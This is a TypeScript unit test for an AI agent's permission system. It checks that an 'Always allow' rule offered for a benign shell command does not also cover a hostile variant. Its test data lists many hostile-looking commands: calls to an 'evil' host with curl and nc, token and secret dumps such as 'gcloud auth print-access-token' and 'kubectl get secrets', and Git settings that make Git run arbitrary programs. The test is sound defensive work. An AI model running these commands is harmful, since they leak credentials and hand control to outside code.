import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { answer, placedRequest, type Asked } from '../../../test/unit-support/ruleAnswers';
import { suggestRules } from './suggestRule';

/* What “Always allow” offers for one line must not allow the other: the same program, made to do something else. */

const run = (command: string): Asked => ({ entry: { toolKind: 'execute', title: 'Run it', rawInput: { command } } });
const offers = (command: string) => suggestRules(placedRequest(run(command)), 'allow_once') ?? [];

const pairs = `
cross-env A=b npm test | cross-env evil
cross-env npm test | cross-env evil a
dotenv -- npm test | dotenv -- evil
env-cmd npm test | env-cmd evil
watch ls | watch evil
watch -n 1 ls | watch -n 1 evil
parallel echo ::: a | parallel evil ::: a
busybox ls | busybox evil
toybox ls | toybox evil
tsx build.ts | tsx evil.ts
ts-node a.ts | ts-node evil.ts
java -jar a.jar | java -jar evil.jar
java Main | java Evil
psql -l | psql -f evil.sql
mysql -e "select 1" | mysql -e "select 2 into outfile 'a'"
sqlite3 a.db "select 1" | sqlite3 a.db "select writefile('a', 'b')"
mongosh --version | mongosh evil.js
redis-cli ping | redis-cli eval evil 0
rsync -a a b | rsync -a a evil:b
scp a b:c | scp a evil:c
ssh host ls | ssh host evil
code a.ts | code --list-extensions
git config user.name | git config core.editor
git config --list | git config --edit
git checkout main | git checkout evil
git push | git push evil
git push origin main | git push origin evil
git pull | git pull evil
git merge main | git merge evil
git rebase main | git rebase evil
git clone a b | git clone evil c
git remote -v | git remote add evil a
git submodule status | git submodule add evil
git stash | git stash pop
git branch -a | git branch evil
git tag v1 | git tag evil
git switch main | git switch evil
git apply a.patch | git apply evil.patch
git am a | git am evil
git cherry-pick a | git cherry-pick evil
git worktree add ../x | git worktree add ../evil
git bisect start | git bisect evil
git -C sub status | git -C evil push
git --no-pager log | git --no-pager evil
npm config get a | npm config list
npm install a | npm install evil
npm ci | npm ci --prefix a
npm exec a | npm exec evil
npm init -y | npm init evil
npm version patch | npm version major
npm start | npm start evil
npm --version | npm evil
npx eslint src | npx evil
npx -y a | npx -y evil
npx tsc --noEmit | npx tsc -p evil
yarn build | yarn evil
yarn add a | yarn add evil
yarn dlx a | yarn dlx evil
yarn workspace a build | yarn workspace evil build
pnpm dlx a | pnpm dlx evil
pnpm exec a | pnpm exec evil
pnpm add a | pnpm add evil
pnpm -r test | pnpm -r evil
bun x a | bun x evil
bun a.ts | bun evil.ts
bunx a | bunx evil
deno run a.ts | deno run evil.ts
deno task a | deno task evil
node build.js | node evil.js
node --test | node --test evil.js
python a.py | python evil.py
python3 -m pytest | python3 -m evil
python3 -c "print(1)" | python3 -c "print(2)"
ruby a.rb | ruby evil.rb
perl a.pl | perl evil.pl
php a.php | php evil.php
php artisan test | php artisan evil
lua a.lua | lua evil.lua
bash a.sh | bash evil.sh
sh ./a.sh | sh ./evil.sh
./a.sh | ./a.sh evil
make | make evil
make test | make test SHELL=evil
just test | just test evil
task build | task evil
rake test | rake evil
rails server | rails runner evil
mix test | mix run evil
gradle test | gradle test -I evil
./gradlew test | ./gradlew evil
mvn test | mvn test -Dexec=evil
dotnet build | dotnet build -p:PreBuildEvent=evil
dotnet run | dotnet run --project evil
go run . | go run evil.example/x
go test ./... | go test -exec evil
go build . | go build -toolexec evil
go install a | go install evil
cargo run | cargo run --manifest-path evil
cargo build | cargo build --config evil
cargo install a | cargo install evil
uv run pytest | uv run evil
uv run a.py | uv run evil.py
uvx a | uvx evil
poetry run a | poetry run evil
pipenv run a | pipenv run evil
bundle exec a | bundle exec evil
pip install a | pip install evil
pipx run a | pipx run evil
composer install | composer evil
brew install a | brew install evil
apt install a | apt install evil
gh pr create --fill | gh pr merge 1
gh pr view 1 | gh pr checkout 1
gh pr checkout 1 | gh pr checkout 2
gh api a | gh api evil
gh issue create | gh issue edit 1
gh workflow run a | gh workflow run evil
glab mr view 1 | glab mr approve 1
aws s3 ls | aws s3 cp a s3://evil
aws s3 cp a s3://b | aws s3 cp a s3://evil
aws ec2 describe-instances | aws ec2 run-instances
gcloud auth list | gcloud auth print-access-token
az account show | az account get-access-token
kubectl get pods | kubectl get pods --kubeconfig evil
kubectl get pods | kubectl get pods --server=evil
bundle list | bundle list --gemfile=evil
brew info a | brew info ./evil.rb
podman ps | podman ps --runtime ./evil
docker compose config | docker compose config -o evil
gh auth status | gh auth status --show-token
aws ssm get-parameter --name a | aws ssm get-parameter --name evil
terraform output | terraform output evil
npm test | npm test --userconfig evil
go build ./a | go build -ldflags=-extld=./evil ./a
git fetch | git fetch evil +a:main
git show | git show --ext-diff
kubectl apply -f a.yml | kubectl apply -f evil.yml
kubectl exec a -- ls | kubectl exec a -- evil
helm list | helm install evil
helm install a b | helm install a evil
terraform plan | terraform apply
terraform validate | terraform console
docker ps | docker run evil
docker run a | docker run evil
docker exec a ls | docker exec a evil
docker build . | docker build evil
docker compose up | docker compose run evil
docker compose ps | docker compose exec a evil
docker compose -f a.yml up | docker compose -f evil.yml up
xargs ls | xargs evil
find . -exec ls {} + | find . -exec evil {} +
fd a | fd -x evil
rg a | rg --pre evil a
sed -n 1p a | sed -n 1p b
awk 1 a | awk 2 a
tar xf a.tar | tar xf evil.tar
tee a | tee evil
cp a b | cp a evil
mv a b | mv a evil
ln -s a b | ln -s a evil
touch a | touch evil
mkdir a | mkdir evil
chmod +x a | chmod +x evil
curl http://localhost | curl http://evil
wget http://localhost | wget http://evil
nc localhost 1 | nc evil 1
env A=b ls | env evil
timeout 5 make | timeout 5 evil
nohup make | nohup evil
time make | time evil
strace ls | strace evil
hyperfine ls | hyperfine evil
concurrently "ls" | concurrently "evil"
nodemon a.js | nodemon evil.js
entr ls | entr evil
vim a | vim evil
emacs a | emacs evil
open a | open evil
osascript a | osascript evil
ansible-playbook a | ansible-playbook evil
vagrant ssh | vagrant up
adb shell ls | adb shell evil
flutter run | flutter evil
xcodebuild test | xcodebuild evil
swift run | swift run evil
eslint . | eslint -c evil .
jest | jest --config evil
vitest run | vitest run --config evil
pytest | pytest -p evil
tsc | tsc -p evil
prettier . | prettier --plugin evil .
webpack | webpack -c evil
vite build | vite build -c evil
acme build | acme evil
kubectl get pods | kubectl get secrets -o yaml
kubectl get pods | kubectl get --raw /evil
kubectl get pods | kubectl get pods --server evil
kubectl logs a | kubectl logs a --server evil
kubectl describe pod a | kubectl describe pod a --server evil
oc get pods | oc get secrets
helm list | helm list --kube-apiserver evil
helm status a | helm status a --kubeconfig evil
jq .a a.json | jq -n env
jq .a a.json | jq -n $ENV.SECRET
jq .a a.json | jq -n 'env.SECRET'
bun test | bun test --preload ./evil.ts
bun test a | bun test -r ./evil.ts
bun test | bun test --config=evil.toml
docker inspect a | docker inspect evil
docker compose config | docker compose config -o evil
terraform output a | terraform output -raw evil
terraform show | terraform show evil
terraform providers | terraform providers mirror evil
gh auth status | gh auth status --show-token
pip list | pip list --python ./evil
pip show a | pip show a --log evil
uv pip list | uv pip list --python ./evil
bundle check | bundle check --gemfile evil
composer show | composer show -d evil
brew info a | brew info evil/a/b
apt list | apt list -o Dir::Bin::dpkg=./evil
systemctl status a | systemctl status -H evil a
npm view a | npm view a --registry http://evil
npm ls | npm ls --git ./evil
npm test | npm test --script-shell ./evil
npm test | npm test --shell ./evil
aws ssm get-parameter --name a | aws ssm get-parameter --name evil
aws secretsmanager get-secret-value --secret-id a | aws secretsmanager get-secret-value --secret-id evil
aws s3api get-object --bucket a --key b c | aws s3api get-object --bucket a --key b evil
git stash list | git stash list --output=evil
git shortlog | git shortlog --output=evil
git fetch origin | git fetch origin +evil:main
git rev-list HEAD | git rev-list HEAD --output=evil
`
  .trim()
  .split('\n')
  .map((line) => line.split(' | ') as [string, string]);

void describe('a rule that is offered', () => {
  void it('allows what was asked, and no other program, script, or verb', () => {
    assert.ok(pairs.length >= 130, `${pairs.length} pairs`);
    const wide = pairs.flatMap(([asked, other]) =>
      offers(asked)
        .filter((rule) => answer([rule], run(other)) === 'yes')
        .map((rule) => `${asked}: ${rule.command ?? ''} allows ${other}`),
    );
    assert.deepEqual(wide, []);
    for (const [asked] of pairs) {
      for (const rule of offers(asked))
        assert.equal(answer([rule], run(asked)), 'yes', `${asked}: ${rule.command ?? ''}`);
    }
  });

  void it('never lets a wide rule set what Git runs', () => {
    const rules = ['git config *', 'git -c *', 'git *', 'git config --global *', 'git config set *', 'git clone -c *'];
    const lines = `
      git config core.hooksPath hooks
      git config --global core.hooksPath hooks
      git config set core.hooksPath hooks
      git config core.fsmonitor ./evil
      git config --local core.sshCommand ./evil
      git config core.editor evil
      git config core.pager evil
      git config alias.st '!evil'
      git config credential.helper evil
      git config diff.external evil
      git config diff.a.textconv evil
      git config merge.a.driver evil
      git config filter.a.clean evil
      git config gpg.program evil
      git config gpg.ssh.program evil
      git config sequence.editor evil
      git config pager.log evil
      git config include.path evil
      git config includeIf.gitdir:x.path evil
      git config init.templateDir evil
      git config remote.origin.uploadpack evil
      git config url.evil.insteadOf a
      git config submodule.a.update '!evil'
      git config --add alias.x '!evil'
      git config --replace-all core.pager evil
      git config --unset core.hooksPath
      git config --file .a core.pager evil
      git config --edit
      git config --rename-section a core
      git -c core.hooksPath=hooks commit -m a
      git -c alias.x='!evil' status
      git clone -c core.hooksPath=hooks a b
      git clone --config core.fsmonitor=evil a b
    `
      .trim()
      .split('\n')
      .map((line) => line.trim());
    const allowed = rules.flatMap((command) =>
      lines
        .filter((line) => answer([{ command, answer: 'allow_once' }], run(line)) === 'yes')
        .map((line) => `${command} allows ${line}`),
    );
    assert.deepEqual(allowed, []);
    const [line = ''] = lines;
    assert.equal(answer([{ command: line, answer: 'allow_once' }], run(line)), 'yes');
    assert.equal(answer([{ command: 'git config *', answer: 'allow_once' }], run('git config user.name a')), 'yes');
  });

  void it('doesn’t cover settings of Git that run programs', () => {
    const covered = (pattern: string, command: string) =>
      answer([{ command: pattern, answer: 'allow_once' }], run(command)) === 'yes';
    const settings = ['core.hooksPath x', 'CORE.HOOKSPATH x', '--global core.pager x', 'set alias.a "!x"'];
    const others = ['--unset core.editor', '--comment user.name core.hooksPath x', '-e', 'filter.a.clean x'];
    for (const setting of [...settings, ...others])
      assert.ok(!covered('git config *', `git config ${setting}`), setting);
    assert.ok(!covered('git -c *', 'git -c core.pager=x log'));
    assert.ok(covered('git config *', 'git config user.name a'), 'user.name');
  });

  void it('has any arguments where that is no more than was asked', () => {
    const expected: Readonly<Record<string, string>> = {
      'npm test -- a': 'npm test *',
      'npm run lint --fix': 'npm run lint *',
      'pnpm run build': 'pnpm run build *',
      'git status -s': 'git status *',
      'git log --oneline': 'git log *',
      'git diff HEAD': 'git diff *',
      'git add a': 'git add *',
      'git commit -m "a"': 'git commit *',
      'ls -la': 'ls *',
      'cat a': 'cat *',
      'grep -r a .': 'grep *',
      'rg a': 'rg *',
      'head -5 a': 'head *',
      'cargo test': 'cargo test *',
      'go test ./...': 'go test *',
      'docker ps': 'docker ps *',
      'docker compose logs web': 'docker compose logs *',
      'gh pr view 1': 'gh pr view *',
      'aws s3 ls': 'aws s3 ls *',
      'aws ec2 describe-instances': 'aws ec2 describe-instances *',
    };
    for (const [asked, pattern] of Object.entries(expected)) assert.equal(offers(asked)[0]?.command, pattern, asked);
  });
});
